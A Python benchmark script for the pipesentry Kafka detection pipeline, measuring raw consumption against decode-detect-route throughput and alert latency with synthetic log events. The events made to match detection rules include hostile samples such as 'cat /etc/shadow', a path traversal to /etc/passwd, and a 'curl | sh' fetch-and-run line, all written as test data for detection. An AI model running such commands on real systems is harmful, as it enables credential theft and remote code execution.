"""Kafka pipeline benchmark: raw aiokafka consumption vs pipesentry consume+decode+detect+route.

    python bench/pipeline.py --json [--events 200000] [--bootstrap HOST:PORT]

Without ``--bootstrap`` a private broker is started with ``devservices``.
Steps, in one run:

1. pre-load ``--events`` events (``bench/eventgen.py``'s mixed corpus plus CI job
   logs, ``--corpus eventgen``; or a small built-in one over seven log sources)
   into one topic per log source;
2. (a) ``raw_consume_per_s``: a plain aiokafka consumer reads every record,
   no processing, after two unmeasured warm-up reads (a fresh broker serves its
   first reads at about half speed); ``raw_consume_tuned_gc_per_s`` is the
   same consumer, measured last, under pipesentry's garbage-collector settings
   (``ratio_same_gc`` divides by it);
3. (b) ``pipeline_per_s``: pipesentry's ``KafkaSource`` over the same topics
   (project rules plus the SigmaHQ cloud, linux, web and application rules),
   handing alerts to the real alert router with a null sink, until every
   offset is acknowledged; then the same with the native screen off
   (``pipeline_unscreened_per_s``; ``alerts_unscreened`` must equal ``alerts``);
   ``*_per_cpu_s`` divide by this process's CPU time instead of wall time
   (steadier on a shared machine);
4. ``latency_p99_ms``: a separate producer process sends a steady
   ``--rate`` events/s to fresh topics for ``--seconds``; for every alert,
   the time from the producer's send to the router accepting it.

Prints one JSON object with ``--json``.
"""

from __future__ import annotations

import argparse
import asyncio
import json
import os
import random
import subprocess
import sys
import tempfile
import time
from pathlib import Path
from typing import Any

import orjson

ROOT = Path(__file__).resolve().parent.parent
SIGMAHQ = ROOT.parent / "shared" / "sigmahq" / "rules"
SOURCES: dict[str, dict[str, str]] = {
    "linux": {"product": "linux", "category": "process_creation"},
    "auditd": {"product": "linux", "service": "auditd"},
    "aws": {"product": "aws", "service": "cloudtrail"},
    "github": {"product": "github", "service": "audit"},
    "proxy": {"category": "proxy"},
    "web": {"category": "webserver"},
    "ci": {"category": "ci_job_log"},
}
WORDS = ("build", "deploy", "alpha", "beta", "cache", "node", "api", "index", "report", "assets", "tmp")


def _w(rng: random.Random) -> str:
    return rng.choice(WORDS)


def make_event(kind: str, rng: random.Random, hit: bool, sent: float) -> dict[str, Any]:
    """One event of ``kind``; ``hit`` ones carry a value some rule looks for."""
    if kind == "linux":
        cmd = "bash -c 'cat /etc/shadow'" if hit else f"/usr/bin/{_w(rng)} --{_w(rng)} /srv/{_w(rng)}"
        ev: dict[str, Any] = {"Image": "/usr/bin/bash" if hit else f"/usr/bin/{_w(rng)}", "CommandLine": cmd,
                              "ParentImage": "/usr/bin/sshd", "User": "ci", "CurrentDirectory": "/home/ci"}
    elif kind == "auditd":
        ev = {"type": "EXECVE", "a0": "chattr" if hit else _w(rng), "a1": "-i" if hit else f"--{_w(rng)}",
              "a2": "/etc/passwd", "exe": f"/usr/bin/{_w(rng)}"}
    elif kind == "aws":
        ev = {"eventSource": "cloudtrail.amazonaws.com" if hit else "s3.amazonaws.com",
              "eventName": "StopLogging" if hit else rng.choice(("GetObject", "PutObject", "HeadObject")),
              "userIdentity": {"type": "IAMUser", "arn": f"arn:aws:iam::1:user/{_w(rng)}"},
              "sourceIPAddress": f"10.0.{rng.randint(0, 255)}.{rng.randint(0, 255)}", "awsRegion": "eu-west-1"}
    elif kind == "github":
        ev = {"action": "org.update_member" if hit else rng.choice(("repo.create", "team.add_member", "git.clone")),
              "permission": "admin" if hit else "read", "actor": _w(rng), "org": "acme",
              "repo": f"acme/{_w(rng)}"}
    elif kind == "proxy":
        ev = {"c-uri": f"http://{_w(rng)}.example.com/{_w(rng)}", "cs-method": "GET",
              "c-useragent": "sqlmap/1.7" if hit else "Mozilla/5.0 (X11; Linux x86_64)",
              "cs-host": f"{_w(rng)}.example.com", "sc-status": 200}
    elif kind == "web":
        ev = {"cs-method": "GET", "cs-uri-query": "/?q=../../../../etc/passwd" if hit else f"/{_w(rng)}?id={rng.randint(1, 99)}",
              "sc-status": 200, "c-ip": "192.0.2.7", "cs-user-agent": "curl/8.0"}
    else:
        ev = {"repository": f"acme/{_w(rng)}", "job": _w(rng), "step": _w(rng),
              "message": "$ curl -sSfL https://get.example.net/i.sh | sh" if hit
              else f"Step {rng.randint(1, 40)}/40 : RUN npm ci --{_w(rng)} {_w(rng)}"}
    ev["@timestamp"] = time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(sent)) + "Z"
    return ev


def _slug(ls: dict[str, str]) -> str:
    return "-".join(v.replace(".", "_") for v in (ls.get("product"), ls.get("category"), ls.get("service")) if v)


EPOCH = 1_764_000_000.0
"""Event times start here and advance 10 ms per event: the alert counts (correlation windows) must
not depend on how fast the machine built the corpus."""


def builtin_corpus(count: int, seed: int = 11, hit_rate: float = 0.02) -> list[tuple[dict[str, str], dict[str, Any]]]:
    rng = random.Random(seed)
    kinds = list(SOURCES)
    out = []
    for i in range(count):
        kind = rng.choice(kinds)
        out.append((SOURCES[kind], make_event(kind, rng, rng.random() < hit_rate, EPOCH + i / 100)))
    return out


def eventgen_corpus(count: int, seed: int = 1, suspicious_share: float = 0.03) -> list[tuple[dict[str, str], dict[str, Any]]]:
    """``bench/eventgen.py``'s mixed corpus (21 log sources) plus 5% CI job logs for the project rules;
    ``suspicious_share`` of both are made to match a rule."""
    sys.path.insert(0, str(ROOT))
    from bench.eventgen import iter_events

    rng = random.Random(seed)
    out: list[tuple[dict[str, str], dict[str, Any]]] = []
    for i, (logsource, event) in enumerate(iter_events(count, seed, suspicious_share)):
        if rng.random() < 0.05:
            out.append((SOURCES["ci"], make_event("ci", rng, rng.random() < suspicious_share, EPOCH + i / 100)))
        else:
            out.append((logsource.as_dict(), dict(event)))
    return out[:count]


def corpus(count: int, kind: str = "eventgen",
           suspicious_share: float | None = None) -> list[tuple[dict[str, str], dict[str, Any]]]:
    """``suspicious_share``: ``None`` keeps each corpus's own (eventgen 0.03, builtin 0.02)."""
    if kind == "eventgen" and (ROOT / "bench" / "eventgen.py").is_file():
        return eventgen_corpus(count, suspicious_share=0.03 if suspicious_share is None else suspicious_share)
    return builtin_corpus(count, hit_rate=0.02 if suspicious_share is None else suspicious_share)


def by_topic(events: list[tuple[dict[str, str], dict[str, Any]]], prefix: str,
             sent: float) -> dict[str, list[bytes]]:
    out: dict[str, list[bytes]] = {}
    for ls, event in events:
        out.setdefault(prefix + _slug(ls), []).append(orjson.dumps({**event, "bench_sent": sent}))
    return out


def topic_map(events: list[tuple[dict[str, str], dict[str, Any]]]) -> dict[str, dict[str, str]]:
    return {_slug(ls): ls for ls, _ in events}


def rule_paths() -> list[str]:
    """The rule pack plus SigmaHQ's cloud, linux, web and application rules when ../shared has them.

    Without them the figures are not comparable with earlier runs, so say so instead of silently
    benchmarking a tenth of the rules.
    """
    paths = [str(ROOT / "sigma-rules")]
    if not SIGMAHQ.is_dir():
        print(f"warning: {SIGMAHQ} not found; benchmarking the project's rules only", file=sys.stderr)
    paths += [str(SIGMAHQ / d) for d in ("cloud", "linux", "web", "application") if (SIGMAHQ / d).is_dir()]
    return paths


def settings_for(bootstrap: str, prefix: str, group: str, topics_ls: dict[str, dict[str, str]],
                 screen: bool = True) -> Any:
    from service.config import Settings

    topics = {f"{prefix}{slug}": {"decoder": "json", "logsource": ls} for slug, ls in topics_ls.items()}
    return Settings(
        kafka={"bootstrap_servers": [bootstrap], "group_id": group, "topics": topics, "max_batch": 5000,
               "max_in_flight_batches": 4, "commit_interval_s": 1.0},
        events={"screen": screen},
        rules={"paths": rule_paths(), "skip_invalid": True, "watch": False},
        alerting={"sinks": [{"type": "null"}]},
        stdin={"enabled": False}, http_ingest={"enabled": False})


async def preload(bootstrap: str, events: dict[str, list[bytes]]) -> None:
    from aiokafka import AIOKafkaProducer

    producer = AIOKafkaProducer(bootstrap_servers=bootstrap, linger_ms=20, max_batch_size=1 << 20,
                                compression_type=None, acks=1)
    await producer.start()
    try:
        for topic, values in events.items():
            batch = producer.create_batch()
            for value in values:
                if batch.append(key=None, value=value, timestamp=None) is None:
                    await (await producer.send_batch(batch, topic, partition=0))
                    batch = producer.create_batch()
                    batch.append(key=None, value=value, timestamp=None)
            if batch.record_count():
                await (await producer.send_batch(batch, topic, partition=0))
    finally:
        await producer.stop()


async def raw_consume(bootstrap: str, topics: list[str], total: int) -> tuple[float, float]:
    from aiokafka import AIOKafkaConsumer

    consumer = AIOKafkaConsumer(*topics, bootstrap_servers=bootstrap, group_id=f"raw-{os.getpid()}-{time.monotonic_ns()}",
                                auto_offset_reset="earliest", enable_auto_commit=False)
    await consumer.start()
    try:
        seen = 0
        started = None
        cpu = 0.0
        while seen < total:
            batches = await consumer.getmany(timeout_ms=500, max_records=5000)
            if started is None and batches:
                started, cpu = time.perf_counter(), time.process_time()
            seen += sum(len(r) for r in batches.values())
        assert started is not None
        return total / (time.perf_counter() - started), total / (time.process_time() - cpu)
    finally:
        await consumer.stop()


class TimingRouter:
    """The real alert router (null sink) plus latency bookkeeping per accepted alert."""

    def __init__(self, inner: Any) -> None:
        self.inner = inner
        self.alerts = 0
        self.matched: set[Any] = set()
        """Origins of the events that raised an alert (``matched_share``)."""
        self.latencies: list[float] = []
        self.cpu_started = 0.0
        self.cpu_s = 0.0

    async def submit(self, alerts: Any) -> None:
        await self.inner.submit(alerts)
        now = time.time()
        self.alerts += len(alerts)
        self.matched.update(alert.origin for alert in alerts)
        for alert in alerts:
            sent = orjson.loads(alert.original).get("bench_sent")
            if sent is not None:
                self.latencies.append(now - sent)


def _acked(runner: Any) -> int:
    return sum(runner.tracker.acked.values())


async def run_pipeline(settings: Any, until_acked: int | None, data_dir: Path, duration: float | None = None,
                       on_ready: Any = None) -> tuple[float, TimingRouter, int]:
    from service.alerting.router import AlertRouter
    from service.detection import Detector
    from service.pipeline import tune_gc
    from service.reload import compile_configured
    from service.sources.kafka import KafkaSource

    outcome = compile_configured(settings.rules, settings.correlation, settings.anomaly, 1)
    assert outcome.detection is not None
    tune_gc()
    router = TimingRouter(AlertRouter(settings.alerting, data_dir))
    await router.inner.start()
    runner = KafkaSource(settings.kafka, settings.events, Detector(outcome.detection), router)
    stop = asyncio.Event()
    task = asyncio.create_task(runner.run(stop))
    try:
        while _acked(runner) == 0 and not runner.ready:
            await asyncio.sleep(0.005)
        if on_ready is not None:
            on_ready()
        started = time.perf_counter()
        router.cpu_started = time.process_time()
        if duration is not None:
            await asyncio.sleep(duration)
        else:
            while _acked(runner) < (until_acked or 0):
                await asyncio.sleep(0.002)
        elapsed = time.perf_counter() - started
        router.cpu_s = time.process_time() - router.cpu_started
        return elapsed, router, _acked(runner)
    finally:
        stop.set()
        await task
        await router.inner.stop()


def producer_main(bootstrap: str, prefix: str, rate: int, seconds: float, kind: str, share: float | None) -> None:
    """Child process: send ``rate`` events/s for ``seconds``, each stamped with its send time.

    Events are encoded once; per tick only the ``bench_sent`` stamp is spliced in and each
    topic's share goes out as one record batch, so the producer itself keeps the pace.
    """
    from aiokafka import AIOKafkaProducer

    encoded = [(prefix + _slug(ls), orjson.dumps(event)[:-1]) for ls, event in corpus(20_000, kind, share)]

    async def main() -> None:
        producer = AIOKafkaProducer(bootstrap_servers=bootstrap, linger_ms=0, acks=1)
        await producer.start()
        tick = 0.02
        per_tick = max(1, int(rate * tick))
        began = time.perf_counter()
        n = 0
        while time.perf_counter() - began < seconds:
            stamp = b',"bench_sent":' + repr(time.time()).encode() + b"}"
            batches: dict[str, Any] = {}
            for _ in range(per_tick):
                topic, head = encoded[n % len(encoded)]
                batch = batches.get(topic)
                if batch is None:
                    batch = batches[topic] = producer.create_batch()
                if batch.append(key=None, value=head + stamp, timestamp=None) is None:
                    await producer.send_batch(batch, topic, partition=0)
                    batch = batches[topic] = producer.create_batch()
                    batch.append(key=None, value=head + stamp, timestamp=None)
                n += 1
            # concurrently: aiokafka queues one batch per partition and waits for the previous one
            await asyncio.gather(*(producer.send_batch(b, t, partition=0) for t, b in batches.items()))
            delay = began + n / rate - time.perf_counter()
            if delay > 0:
                await asyncio.sleep(delay)
        await producer.flush()
        await producer.stop()
        print(json.dumps({"sent": n}), flush=True)

    asyncio.run(main())


async def bench(args: argparse.Namespace, bootstrap: str, workdir: Path) -> dict[str, Any]:
    from aiokafka.admin import AIOKafkaAdminClient, NewTopic

    run = f"b{os.getpid()}x{int(time.time())}-"
    events = corpus(args.events, args.corpus, args.suspicious_share)
    topics = topic_map(events)
    admin = AIOKafkaAdminClient(bootstrap_servers=bootstrap)
    await admin.start()
    await admin.create_topics([NewTopic(f"{p}{slug}", 1, 1) for p in (run, run + "lat-") for slug in topics])
    await admin.close()

    began = time.perf_counter()
    await preload(bootstrap, by_topic(events, run, time.time()))
    preload_s = time.perf_counter() - began

    from service.metrics import EVENTS_SCREENED

    raw_topics = [f"{run}{slug}" for slug in topics]
    # two unmeasured reads warm the broker (its JIT-compiled fetch path, the page cache): the
    # first reads of a fresh broker run at about half speed, which would flatter the pipeline
    for _ in range(2):
        await raw_consume(bootstrap, raw_topics, args.events)
    raw, raw_cpu = await raw_consume(bootstrap, raw_topics, args.events)
    screened_before = EVENTS_SCREENED.labels("kafka")._value.get()
    elapsed, router, acked = await run_pipeline(settings_for(bootstrap, run, f"pipe-{run}", topics), args.events,
                                                workdir / "pipe")
    pipeline = acked / elapsed
    screened = EVENTS_SCREENED.labels("kafka")._value.get() - screened_before
    # the same pipeline with every event decoded and evaluated in Python, for comparison
    plain_elapsed, plain_router, plain_acked = await run_pipeline(
        settings_for(bootstrap, run, f"plain-{run}", topics, screen=False), args.events, workdir / "plain")
    # the same plain consumer under the garbage-collector settings pipesentry runs with
    # (service.pipeline.tune_gc): aiokafka alone gains much from them, see ratio_same_gc
    from service.pipeline import tune_gc

    tune_gc()
    raw_tuned, raw_tuned_cpu = await raw_consume(bootstrap, raw_topics, args.events)

    latency_settings = settings_for(bootstrap, run + "lat-", f"lat-{run}", topics)
    children: list[subprocess.Popen[str]] = []

    def start_producer() -> None:  # once partitions are assigned: group joining is not latency
        children.append(subprocess.Popen([sys.executable, __file__, "--produce", bootstrap, run + "lat-",
                                          str(args.rate), str(args.seconds), args.corpus,
                                          "-" if args.suspicious_share is None else str(args.suspicious_share)],
                                         stdout=subprocess.PIPE, text=True))

    try:
        _, lat_router, lat_acked = await run_pipeline(latency_settings, None, workdir / "lat",
                                                      duration=args.seconds + 3, on_ready=start_producer)
    finally:
        out = children[0].communicate(timeout=60)[0] if children else ""
    sent = json.loads(out.strip().splitlines()[-1])["sent"] if out.strip() else 0
    lat = sorted(lat_router.latencies)
    p99 = lat[min(len(lat) - 1, int(len(lat) * 0.99))] * 1000 if lat else None
    p50 = lat[len(lat) // 2] * 1000 if lat else None
    return {
        "events": args.events,
        "corpus": args.corpus,
        "suspicious_share": args.suspicious_share,
        "matched_share": round(len(router.matched) / acked, 3) if acked else None,
        "topics": len(topics),
        "preload_s": round(preload_s, 2),
        "raw_consume_per_s": round(raw),
        "pipeline_per_s": round(pipeline),
        "ratio": round(pipeline / raw, 3),
        "raw_consume_per_cpu_s": round(raw_cpu),
        "pipeline_per_cpu_s": round(acked / router.cpu_s) if router.cpu_s else None,
        "ratio_cpu": round(acked / router.cpu_s / raw_cpu, 3) if router.cpu_s else None,
        "raw_consume_tuned_gc_per_s": round(raw_tuned),
        "ratio_same_gc": round(pipeline / raw_tuned, 3),
        "ratio_cpu_same_gc": round(acked / router.cpu_s / raw_tuned_cpu, 3) if router.cpu_s else None,
        "screened_share": round(screened / acked, 3) if acked else None,
        "pipeline_unscreened_per_s": round(plain_acked / plain_elapsed),
        "alerts": router.alerts,
        "alerts_unscreened": plain_router.alerts,
        "latency_p99_ms": round(p99, 1) if p99 is not None else None,
        "latency_p50_ms": round(p50, 1) if p50 is not None else None,
        "latency_rate_per_s": args.rate,
        "latency_events_sent": sent,
        "latency_events_processed": lat_acked,
        "latency_alerts": len(lat),
        "rules": rule_paths(),
    }


def main() -> int:
    if len(sys.argv) > 1 and sys.argv[1] == "--produce":
        producer_main(sys.argv[2], sys.argv[3], int(sys.argv[4]), float(sys.argv[5]), sys.argv[6],
                      float(sys.argv[7]) if sys.argv[7] != "-" else None)
        return 0
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--json", action="store_true", help="print one JSON object")
    parser.add_argument("--events", type=int, default=200_000)
    parser.add_argument("--rate", type=int, default=10_000, help="events/s for the latency phase")
    parser.add_argument("--seconds", type=float, default=10.0, help="length of the latency phase")
    parser.add_argument("--bootstrap", help="use this broker instead of starting one")
    parser.add_argument("--corpus", choices=("eventgen", "builtin"), default="eventgen",
                        help="eventgen: bench/eventgen.py's 21 log sources plus CI job logs; "
                             "builtin: seven CI/cloud/linux/web sources")
    parser.add_argument("--suspicious-share", type=float, default=None,
                        help="share of events made to match a rule (default: the corpus's own, eventgen 0.03, "
                             "builtin 0.02); with --corpus builtin, 0.35 makes about 30%% of events match "
                             "(matched_share)")
    args = parser.parse_args()
    import logging

    logging.basicConfig(level=logging.WARNING)
    with tempfile.TemporaryDirectory(prefix="pipesentry-bench-") as tmp:
        workdir = Path(tmp)
        from devservices.kafka import broker

        with broker(args.bootstrap, workdir) as bootstrap:
            result = asyncio.run(bench(args, bootstrap, workdir))
    if args.json:
        print(json.dumps(result))
    else:
        for key, value in result.items():
            print(f"{key:28} {value}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
